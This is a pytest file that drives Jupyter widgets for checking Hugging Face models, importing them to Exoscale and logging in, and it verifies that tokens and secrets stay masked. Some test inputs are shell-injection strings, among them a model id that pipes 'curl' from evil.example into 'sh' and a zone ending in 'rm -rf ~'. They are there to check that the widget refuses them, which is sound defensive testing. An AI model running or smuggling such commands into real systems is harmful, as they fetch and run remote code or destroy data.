"""The widgets driven as a user would (set values, click the buttons), against the sandbox, for every check
outcome."""

from __future__ import annotations

import contextlib
import html
import sys
import time

import pytest

from jupyter_exo_models.core.credentials import resolve_hf_token, set_session_credentials
from jupyter_exo_models.core.errors import AuthenticationError, ExoModelsError
from jupyter_exo_models.notebook import login as login_module
from jupyter_exo_models.notebook.importer import ModelImporter
from jupyter_exo_models.notebook.login import LoginWidget, login
from jupyter_exo_models.sandbox import DEMO

WAIT = 30


def checked(model_id: str, zone: str = "de-fra-1", **kwargs) -> ModelImporter:
    """A widget after the user typed the id and clicked Check (and the check finished)."""
    widget = ModelImporter(zone=zone, **kwargs)
    widget.model_input.value = model_id
    widget.check_button.click()
    widget.future.result(WAIT)
    return widget


def settle(widget: ModelImporter) -> None:
    """Wait for the widget's latest action, then for the import it follows."""
    widget.future.result(WAIT)
    if widget.job is not None:
        with contextlib.suppress(ExoModelsError):  # an import ending in error is an outcome too
            widget.job.result(WAIT)


def creates(sb) -> list:
    return [
        r
        for r in sb.requests
        if r.service == "exoscale" and r.method == "POST" and r.path.endswith("/ai/model")
    ]


def rows(widget: ModelImporter) -> int:
    return widget.results.value.count("<tr>")


# -- every check outcome of the sandbox catalog -------------------------------------------------------
@pytest.mark.parametrize(
    "model_id, token, statuses",
    [
        ("sandbox-org/Tiny-Llama-1B", None, {}),
        ("sandbox-org/single-safetensors", None, {"weights-format": "pass"}),
        ("sandbox-gated/Accepted-Gated-3B", None, {"gated-access": "pass"}),
        ("demo-user/private-finetune", None, {"repo-access": "pass", "hf-token": "pass"}),
        ("acme-ai/internal-model", None, {"repo-access": "pass", "hf-token": "pass"}),
        ("sandbox-org/mixed-case-model", None, {"repo-id-case": "fail"}),
        ("other-user/secret-model", None, {"repo-access": "fail"}),
        ("sandbox-gated/Llama-Gated-8B", None, {"gated-access": "fail"}),
        ("sandbox-gated/Manual-Gated-7B", None, {"gated-access": "fail"}),
        ("sandbox-org/pytorch-only", None, {"weights-format": "fail"}),
        ("sandbox-org/no-weights", None, {"weights-format": "fail"}),
        ("sandbox-org/Broken-Import", None, {"already-imported": "fail"}),
        ("not a valid id", None, {"repo-id": "fail"}),
        ("sandbox-gated/Llama-Gated-8B", False, {"hf-token": "fail"}),  # no token at all
        ("demo-user/private-finetune", False, {"hf-token": "fail", "repo-access": "fail"}),
        ("sandbox-gated/Llama-Gated-8B", DEMO.hf_fine_grained_user, {"hf-token": "fail"}),  # no gated scope
        ("acme-ai/internal-model", DEMO.hf_fine_grained_user, {"hf-token": "fail", "repo-access": "fail"}),
        ("sandbox-org/Tiny-Llama-1B", DEMO.hf_revoked, {"hf-token": "fail"}),
    ],
)
def test_each_outcome_shows_its_rows_and_sets_the_import_button(sb, model_id, token, statuses):
    widget = checked(model_id, hf_token=token)
    report = widget.report
    assert report is not None and report.model == model_id and rows(widget) == 11
    assert {check: report[check].status for check in statuses} == statuses
    if report.ok:
        assert not widget.import_button.disabled and "Ready to import" in widget.results.value
    else:
        assert (
            widget.import_button.disabled and "✘" in widget.results.value and "fix:" in widget.results.value
        )
    assert not isinstance(token, str) or token not in widget.results.value + repr(widget)


def test_rejected_exoscale_key_fails_its_check(sb):
    set_session_credentials(key=DEMO.exo_key_no_ai, secret=DEMO.exo_secret_no_ai)
    widget = checked(DEMO.tiny)
    assert widget.report["exoscale-credentials"].status == "fail" and widget.import_button.disabled
    assert "IAM" in widget.results.value or "Dedicated Inference" in widget.results.value
    assert DEMO.exo_secret_no_ai not in widget.results.value


def test_already_created_warns_and_shows_its_state(sb):
    widget = checked(DEMO.already_created)
    assert widget.report["already-imported"].status == "warn"
    settle(widget)
    assert widget.job is not None and widget.job.attached and "created" in widget.status.value
    assert creates(sb) == []


def test_case_mismatch_is_fixed_in_one_click(sb):
    widget = checked("sandbox-org/mixed-case-model")
    assert (
        widget.use_canonical.layout.display == "" and "Mixed-Case-Model" in widget.use_canonical.description
    )
    widget.use_canonical.click()
    widget.future.result(WAIT)
    assert (
        widget.model_input.value == DEMO.mixed_case and widget.report.ok and not widget.import_button.disabled
    )


def test_gate_shows_prompt_fields_link_and_recheck(sb):
    widget = checked(DEMO.gated)
    assert "Acknowledge the SANDBOX Llama license" in widget.gate.value
    assert (
        "Company" in widget.gate.value and sb.hub_url + "/sandbox-gated/Llama-Gated-8B" in widget.gate.value
    )
    assert "Intended use (one of: Research, Education, Other)" in widget.gate.value  # a select's choices
    assert "geo (your IP location, recorded by the Hub)" in widget.gate.value and "{" not in widget.gate.value
    assert widget.recheck_button.layout.display == ""
    sb.hub.accept("demo-user", DEMO.gated)
    widget.recheck_button.click()
    widget.future.result(WAIT)
    assert widget.report.ok and widget.gate.value == "" and not widget.import_button.disabled


def test_pending_manual_approval_says_so(sb):
    widget = checked(DEMO.gated_manual)
    assert "pending approval" in widget.gate.value and widget.import_button.disabled


def test_warning_needs_the_override(sb):
    widget = checked(DEMO.gguf_only)
    assert widget.report.ok and widget.report["weights-format"].status == "warn"
    assert widget.import_button.disabled and widget.override.layout.display == ""
    widget.override.value = True
    assert not widget.import_button.disabled


# -- importing ----------------------------------------------------------------------------------------
def test_double_click_creates_one_model_and_shows_live_status(sb):
    widget = checked(DEMO.tiny)
    assert "16" not in widget.facts.value and "apache-2.0" in widget.facts.value
    widget.import_button.click()
    # the frontend may deliver a second click before the first disables the button
    widget.import_button.click()
    settle(widget)
    assert len(creates(sb)) == 1
    assert [m["name"] for m in sb.exoscale.models("de-fra-1")].count(DEMO.tiny) == 1
    assert not widget.job.attached and widget.job.state == "created"
    assert "created" in widget.status.value and "deploy it next" in widget.status.value
    assert widget.import_button.disabled
    assert "created" in repr(widget)


def test_import_error_shows_the_diagnosis(sb):
    sb.exoscale.timings.creating = 1.0  # time to withdraw the access before Exoscale downloads
    sb.hub.accept("demo-user", DEMO.gated)
    widget = checked(DEMO.gated)
    widget.import_button.click()
    widget.future.result(WAIT)
    del sb.catalog.access[("demo-user", DEMO.gated.lower())]  # the owner withdrew access meanwhile
    settle(widget)
    assert widget.job.state == "error" and "Diagnosis (gated-access)" in widget.status.value
    assert "fix:" in widget.status.value


def test_a_refused_import_shows_the_new_report(sb):
    sb.hub.accept("demo-user", DEMO.gated)
    widget = checked(DEMO.gated)
    del sb.catalog.access[("demo-user", DEMO.gated.lower())]
    widget.import_button.click()
    widget.future.result(WAIT)
    assert "Import refused" in widget.status.value and widget.report["gated-access"].status == "fail"
    assert widget.import_button.disabled and creates(sb) == []


def test_a_failed_create_request_shows_the_error_and_allows_a_retry(sb):
    widget = checked(DEMO.tiny)
    sb.faults.once("exoscale", "POST", r"/ai/model$", 403)
    widget.import_button.click()
    with pytest.raises(AuthenticationError):
        widget.future.result(WAIT)
    assert "fix:" in widget.status.value and not widget.import_button.disabled
    widget.import_button.click()
    settle(widget)
    assert widget.job.state == "created"


def test_editing_the_id_during_a_check_never_imports_the_old_one(sb):
    sb.faults.latency = 0.2  # a slow check, so the edit lands while it runs
    widget = ModelImporter(zone="de-fra-1")
    widget.model_input.value = DEMO.tiny
    widget.check_button.click()
    future = widget.future
    widget.model_input.value = "sandbox-org/single-safetensors"
    future.result(WAIT)
    sb.faults.latency = 0
    assert widget.report is None and widget.import_button.disabled
    assert widget.start_import().result(WAIT) is None
    widget.import_button.click()
    assert creates(sb) == []


def test_editing_the_id_after_a_check_never_imports_the_old_one(sb):
    widget = checked(DEMO.tiny)
    report = widget.report
    widget.model_input.value = "sandbox-org/single-safetensors"
    assert widget.import_button.disabled and widget.report is None
    widget.report = report  # as if the old check landed just after the edit
    assert widget.start_import().result(WAIT) is None and creates(sb) == []
    widget.check_button.click()
    widget.future.result(WAIT)
    widget.import_button.click()
    settle(widget)
    assert [r.json()["name"] for r in creates(sb)] == ["sandbox-org/single-safetensors"]


@pytest.mark.slow
def test_stop_then_recheck_shows_the_current_state(sb):
    sb.exoscale.timings.downloading = 3.0
    widget = checked(DEMO.tiny)
    widget.import_button.click()
    widget.future.result(WAIT)
    widget.stop_button.click()
    deadline = time.monotonic() + WAIT
    while not widget.job.done and time.monotonic() < deadline:
        time.sleep(0.02)
    assert widget.job.state == "stopped"
    widget.check_button.click()  # re-check: attaches again, from Exoscale's state
    settle(widget)
    assert widget.job.state == "created" and "created" in widget.status.value


def test_redisplay_after_stop_and_a_new_widget_show_the_current_state(sb):
    sb.exoscale.timings.downloading = 2.0
    widget = checked(DEMO.tiny)
    widget.import_button.click()
    widget.future.result(WAIT)
    widget.stop()
    deadline = time.monotonic() + WAIT
    while not widget.job.done and time.monotonic() < deadline:
        time.sleep(0.02)
    other = ModelImporter(DEMO.tiny, zone="de-fra-1")  # as after a kernel restart, or in another cell
    settle(other)
    assert other.job.attached and "created" in other.status.value
    from IPython.core.formatters import DisplayFormatter

    DisplayFormatter().format(widget)  # what displaying it again does (ipywidgets 7 and 8)
    settle(widget)
    assert widget.job.state == "created" and "created" in widget.status.value


def test_cli_command_never_contains_the_token(sb):
    set_session_credentials(hf_token=DEMO.hf_write_token)
    widget = checked(DEMO.tiny)
    widget.cli_toggle.value = True
    assert '--huggingface-token "$HF_TOKEN"' in html.unescape(widget.cli.value)
    assert DEMO.hf_write_token not in widget.cli.value and widget.cli.layout.display == ""


@pytest.mark.parametrize(
    "model_id",
    [
        "org/m;curl https://evil.example/x | sh",
        "org/m $(id)",
        "https://hf.co/org/m",
        "org/m\nexo iam delete",
        "",
    ],
)
def test_no_cli_command_is_shown_for_an_id_no_command_should_carry(sb, model_id):
    from jupyter_exo_models.notebook.render import exo_command

    assert exo_command(model_id, "de-fra-1") is None
    widget = checked(model_id)
    widget.cli_toggle.value = True
    assert "<pre>" not in widget.cli.value and "valid model id" in widget.cli.value


def test_the_cli_command_is_one_shell_word_per_argument():
    import shlex

    from jupyter_exo_models.notebook.render import exo_command

    command = exo_command(DEMO.tiny, "de-fra-1")
    assert shlex.split(command) == [
        "exo",
        "dedicated-inference",
        "model",
        "create",
        DEMO.tiny,
        "--huggingface-token",
        "$HF_TOKEN",
        "-z",
        "de-fra-1",
    ]
    assert '"$HF_TOKEN"' in command and exo_command(DEMO.tiny, "de-fra-1; rm -rf ~") is None


# -- login ---------------------------------------------------------------------------------------------
def test_login_skips_in_one_line_when_valid(sb, capsys):
    check = login()
    out = capsys.readouterr().out
    assert check.ok and out.startswith("Logged in") and out.count("\n") == 1
    assert repr(check).count("\n") == 0 and len(repr(check)) < 150 and DEMO.exo_secret not in repr(check)


def test_colab_shell_counts_as_a_kernel(monkeypatch):
    from ipykernel.zmqshell import ZMQInteractiveShell

    class Shell(ZMQInteractiveShell):  # google.colab._shell.Shell
        pass

    import IPython

    monkeypatch.setattr(IPython, "get_ipython", lambda: Shell.__new__(Shell))
    assert login_module._in_kernel()
    monkeypatch.setattr(IPython, "get_ipython", lambda: None)
    assert not login_module._in_kernel()


def test_exoscale_fields_hidden_when_credentials_exist_and_shown_on_force(sb, monkeypatch):
    monkeypatch.setattr(login_module, "_in_kernel", lambda: True)
    set_session_credentials(hf_token=DEMO.hf_revoked)  # the token is broken, the Exoscale key works
    widget = login()
    assert isinstance(widget, LoginWidget) and widget.children[2].layout.display == "none"
    set_session_credentials(hf_token=DEMO.hf_token)
    forced = login(force=True)
    assert isinstance(forced, LoginWidget) and forced.children[2].layout.display == ""
    assert "HF_TOKEN" in repr(forced) and len(repr(forced)) <= 110  # the plain-text fallback, untruncated


def test_widget_login_clears_every_field(sb):
    widget = LoginWidget(zone="de-fra-1")
    widget.token.value = DEMO.hf_fine_grained_gated
    widget.key.value, widget.secret.value = DEMO.exo_key, DEMO.exo_secret
    widget.button.click()
    assert widget.token.value == widget.key.value == widget.secret.value == ""
    result = _wait_status(widget)
    assert (
        "fine-grained" in result
        and DEMO.hf_fine_grained_gated not in result
        and DEMO.exo_secret not in result
    )
    assert (
        resolve_hf_token().source == "login"
        and resolve_hf_token().value.reveal() == DEMO.hf_fine_grained_gated
    )


def test_widget_login_reports_bad_credentials(sb):
    widget = LoginWidget(zone="de-fra-1")
    widget.token.value = DEMO.hf_revoked
    widget.key.value, widget.secret.value = DEMO.exo_key_no_ai, DEMO.exo_secret_no_ai
    result = widget.submit().result(WAIT)
    assert not result.ok and "invalid or revoked" in widget.status.value and "IAM" in widget.status.value
    assert DEMO.hf_revoked not in widget.status.value


def test_widget_login_shows_an_unexpected_error_without_its_text(sb, monkeypatch):
    async def broken(**kwargs):
        raise RuntimeError(f"boom {kwargs['hf_token']}")

    monkeypatch.setattr(login_module.api, "avalidate_credentials", broken)
    widget = LoginWidget(zone="de-fra-1")
    widget.token.value = DEMO.hf_token
    widget.button.click()
    status = _wait_status(widget)
    assert "Unexpected error (RuntimeError)" in status and DEMO.hf_token not in status
    assert not widget.button.disabled


def test_widget_login_saves_the_token_on_request(sb, tmp_path, monkeypatch):
    from huggingface_hub import constants, get_token

    # huggingface_hub read HF_HOME at import: point its token store at this test's directory
    monkeypatch.setattr(constants, "HF_TOKEN_PATH", str(tmp_path / "hf" / "token"))
    monkeypatch.setattr(
        constants, "HF_STORED_TOKENS_PATH", str(tmp_path / "hf" / "stored_tokens"), raising=False
    )
    widget = LoginWidget(zone="de-fra-1")
    assert widget.save.disabled  # the sandbox's token must not replace a real one by accident
    widget.save.disabled, widget.save.value = False, True
    widget.token.value = DEMO.hf_write_token
    widget.button.click()
    assert "Not saved" in _wait_status(widget) and get_token() is None  # the store belongs to huggingface.co
    # as if huggingface_hub had been imported with HF_ENDPOINT pointing at this Hub
    from huggingface_hub import hf_api

    monkeypatch.setattr(constants, "ENDPOINT", sb.hub_url)
    monkeypatch.setattr(hf_api.api, "endpoint", sb.hub_url)
    widget.token.value = DEMO.hf_write_token
    widget.button.click()
    assert "Saved the token" in _wait_status(widget)
    assert (
        get_token() == DEMO.hf_write_token and (tmp_path / "hf" / "token").read_text() == DEMO.hf_write_token
    )


@pytest.mark.parametrize("tty", [True, False])
def test_terminal_login(sb, monkeypatch, capsys, tty):
    import getpass

    monkeypatch.setattr(login_module, "_in_kernel", lambda: False)
    monkeypatch.setattr(sys.stdin, "isatty", lambda: tty, raising=False)
    set_session_credentials(hf_token=DEMO.hf_revoked)
    answers = iter([DEMO.hf_fine_grained_user])
    monkeypatch.setattr(getpass, "getpass", lambda prompt="": next(answers))
    result = login()
    out = capsys.readouterr().out
    if tty:
        assert (
            result.ok
            and "fine-grained" in out
            and resolve_hf_token().value.reveal() == DEMO.hf_fine_grained_user
        )
    else:
        assert not result.ok and "HF_TOKEN" in out
    assert DEMO.hf_fine_grained_user not in out and DEMO.hf_revoked not in out


def _wait_status(widget: LoginWidget) -> str:
    deadline = time.monotonic() + WAIT
    while (widget.button.disabled or "Checking" in widget.status.value) and time.monotonic() < deadline:
        time.sleep(0.02)
    return widget.status.value


# -- what one model's check must not carry over to the next -------------------------------------------
def test_checking_another_model_while_one_is_watched_enables_its_import(sb):
    sb.exoscale.timings.creating = 5.0  # the first import is still watched during the second check
    widget = checked(DEMO.tiny)
    widget.import_button.click()
    widget.future.result(WAIT)
    assert widget.job is not None and not widget.job.done
    widget.model_input.value = "sandbox-org/single-safetensors"
    widget.check_button.click()
    widget.future.result(WAIT)
    assert widget.report.ok and widget.job is None and not widget.import_button.disabled


def test_consent_to_warnings_is_per_report(sb):
    widget = checked(DEMO.gguf_only)
    widget.override.value = True
    widget.model_input.value = "sandbox-org/Already-Created"  # warns too: already imported
    assert widget.override.value is False
    widget.check_button.click()
    widget.future.result(WAIT)
    assert widget.report.warnings and widget.import_button.disabled


def test_an_edit_hides_what_the_previous_report_offered(sb):
    widget = checked("sandbox-org/mixed-case-model")
    assert widget.use_canonical.layout.display == ""
    widget.model_input.value = DEMO.gated
    assert widget.use_canonical.layout.display == "none" and widget.gate.value == widget.facts.value == ""
    widget.check_button.click()
    widget.future.result(WAIT)
    assert widget.gate.value and widget.use_canonical.layout.display == "none"


@pytest.mark.parametrize("zone", ["ch-gva-3", "../", "de\x1b[31m"])
def test_an_unknown_zone_shows_the_error_and_is_never_replaced(sb, zone):
    from jupyter_exo_models.core.text import shown

    widget = ModelImporter(DEMO.tiny, zone=zone)  # was a traceback
    assert (
        widget.zone_input.value is None
        and shown(zone) in html.unescape(widget.status.value)
        and "ch-gva-2" in widget.status.value
    )
    assert "\x1b" not in widget.status.value
    with pytest.raises(ExoModelsError):
        widget.check_button.click() or widget.future.result(WAIT)
    assert "Choose a zone" in widget.results.value and not sb.requests
    widget.zone_input.value = "de-fra-1"
    assert widget.status.value == ""
    widget.check_button.click()
    assert widget.future.result(WAIT).zone == "de-fra-1"
    form = LoginWidget(zone=zone)
    assert form.zone.value is None and shown(zone) in html.unescape(form.status.value)
    with pytest.raises(ExoModelsError):
        form.submit().result(WAIT)


@pytest.mark.parametrize("zone", ["ch-gva-3", "../"])
def test_login_with_an_unknown_zone_shows_the_error_not_a_traceback(sb, capsys, zone):
    assert login(zone=zone) is None
    out = capsys.readouterr().out
    assert out.startswith("error: Unknown zone") and "fix: Use one of" in out and "Traceback" not in out


def test_a_failure_of_a_deleted_model_is_not_shown_again(sb):
    from jupyter_exo_models.core import api

    # forced: Exoscale ends it in error
    job = api.import_model(DEMO.pytorch_only, zone="de-fra-1", force=True, wait=False)
    with contextlib.suppress(ExoModelsError):
        job.result(WAIT)
    assert job.diagnosis is not None
    again = checked(DEMO.pytorch_only)
    assert "Diagnosis" in again.status.value  # still listed in error: its diagnosis is shown
    api.delete_model(job.model.id, zone="de-fra-1")
    again.check_button.click()
    again.future.result(WAIT)
    assert "Diagnosis" not in again.status.value and again.job is None
    assert "Diagnosis" not in checked(DEMO.pytorch_only).status.value


def test_an_echoed_secret_never_reaches_the_importer_or_its_saved_state(monkeypatch):
    """Exoscale quoting the token and the secret back: the widget shows the diagnosis, masked, and no widget
    state (what a saved notebook keeps) holds either."""
    import ipywidgets
    from hostile import ECHOED_EXO_SECRET, echoing_services

    with echoing_services(monkeypatch):
        widget = checked(DEMO.tiny)
        widget.import_button.click()
        settle(widget)
        assert widget.job.state == "error" and "hf_…" in widget.status.value
        live = getattr(ipywidgets.widgets.widget, "_instances", None)  # ipywidgets 8; 7 keeps Widget.widgets
        states = [
            w.get_state() for w in list((live if live is not None else ipywidgets.Widget.widgets).values())
        ]
    saved = repr(states) + html.unescape(widget.status.value)
    assert "Invalid credentials" in saved
    assert DEMO.hf_token not in saved and ECHOED_EXO_SECRET not in saved
